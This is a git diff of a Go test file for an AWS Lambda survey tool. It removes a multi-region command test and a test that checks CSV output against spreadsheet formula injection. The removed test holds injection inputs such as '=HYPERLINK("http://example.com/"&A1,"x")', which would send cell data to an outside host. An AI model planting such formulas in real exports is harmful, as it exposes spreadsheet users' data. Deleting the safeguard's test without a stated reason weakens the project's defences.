@@ -3,7 +3,6 @@ package main
 import (
 	"bytes"
 	"context"
-	"encoding/csv"
 	"errors"
 	"os"
 	"path/filepath"
@@ -14,7 +13,6 @@ import (
 	"github.com/aws/aws-sdk-go-v2/config"
 	"github.com/stretchr/testify/require"
 
-	"github.com/dualarch/dualarch/internal/guard"
 	"github.com/dualarch/dualarch/internal/survey"
 )
 
@@ -132,32 +130,6 @@ func TestSurveyOfManyFunctions(t *testing.T) {
 	status, stdout, _ = runSurvey(t.Context(), found(r), "--csv", "-")
 	require.Equal(t, exitFound, status)
 	require.Equal(t, 87, strings.Count(stdout, "\r\n"))
-}
-
-// Stacks of several regions may have the same name: each function is adopted with the template of its own.
-func TestSurveyAdoptsWithTheRightTemplate(t *testing.T) {
-	r := surveyGolden(t)
-	of := func(name, region, id string) survey.Function {
-		f := r.Functions[0]
-		f.ARN, f.Name, f.Region, f.LogicalID = "arn:aws:lambda:"+region+":123456789012:function:"+name, name, region, id
-		return f
-	}
-	r.Functions = []survey.Function{of("orders", "eu-west-1", "Orders1"), of("orders", "us-east-1", "Orders1"), of("bills", "eu-west-1", "Bills2")}
-	status, stdout, stderr := runSurvey(t.Context(), found(r), "--profile", "prod")
-	require.Equal(t, exitFound, status, stderr)
-	var commands []string
-	for line := range strings.Lines(stdout) {
-		if command, is := strings.CutPrefix(strings.TrimSpace(line), "$ "); is {
-			commands = append(commands, command)
-		}
-	}
-	require.Equal(t, []string{
-		"aws cloudformation get-template --profile prod --region eu-west-1 --stack-name Shop --query TemplateBody --output json > Shop.eu-west-1.template.json",
-		"dualarch adopt --function Orders1 Shop.eu-west-1.template.json",
-		"aws cloudformation get-template --profile prod --region us-east-1 --stack-name Shop --query TemplateBody --output json > Shop.us-east-1.template.json",
-		"dualarch adopt --function Orders1 Shop.us-east-1.template.json",
-		"dualarch adopt --function Bills2 Shop.eu-west-1.template.json",
-	}, commands)
 }
 
 // The standard output has one thing; people then read the standard error.
@@ -296,34 +268,4 @@ func TestSurveyPolicy(t *testing.T) {
 	status, _, _ := runSurvey(t.Context(), never, "--policy", "--cache", "cache")
 	require.Zero(t, status)
 	require.NoDirExists(t, "cache", "nothing is written")
-}
-
-// A spreadsheet never runs what somebody named a function.
-func TestSurveyCSVIsInert(t *testing.T) {
-	for given, want := range map[string]string{
-		"orders": "orders", "": "", "a-b": "a-b", "=1+1": "'=1+1", "+a": "'+a", "-cmd": "'-cmd", "@SUM(A1)": "'@SUM(A1)", " =1": "' =1",
-		"\uff1d1": "'\uff1d1", "a;=1": "a;'=1", "a; -1": "a;' -1", "a=1": "a=1", "'": "'", `a;"=1`: `a;"=1`,
-	} {
-		require.Equal(t, want, inert(given))
-	}
-	r := &survey.Report{Functions: []survey.Function{{
-		Name: `=HYPERLINK("http://example.com/"&A1,"x")`, Stack: "\t=1", LogicalID: "a,b\r\n\"c\"", Layers: []string{"x", "y"}, Untunable: "naïve",
-		Readiness: survey.Readiness{Status: guard.Unknown, Unchecked: []string{"a", "=b"}}, Measured: &survey.Measured{SavingUSD: aws.Float64(-2.5)},
-	}}}
-	text, err := surveyCSV(r)
-	require.NoError(t, err)
-	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
-	require.NoError(t, err)
-	require.Len(t, lines, 2)
-	cells := map[string]string{}
-	for i, name := range lines[0] {
-		cells[name] = lines[1][i]
-	}
-	require.Equal(t, `'=HYPERLINK("http://example.com/"&A1,"x")`, cells["functionName"])
-	require.Equal(t, `\u0009=1`, cells["stack"])
-	require.Equal(t, `a,b\u000d\u000a"c"`, cells["logicalId"])
-	require.Equal(t, "a;' =b", cells["unchecked"])
-	require.Equal(t, "-2.5", cells["measuredSavingUsd"], "a number stays one")
-	require.Empty(t, cells["estimatedTodayUsd"], "what is not known is empty, and not 0")
-	require.Equal(t, "naïve", cells["untunable"])
 }
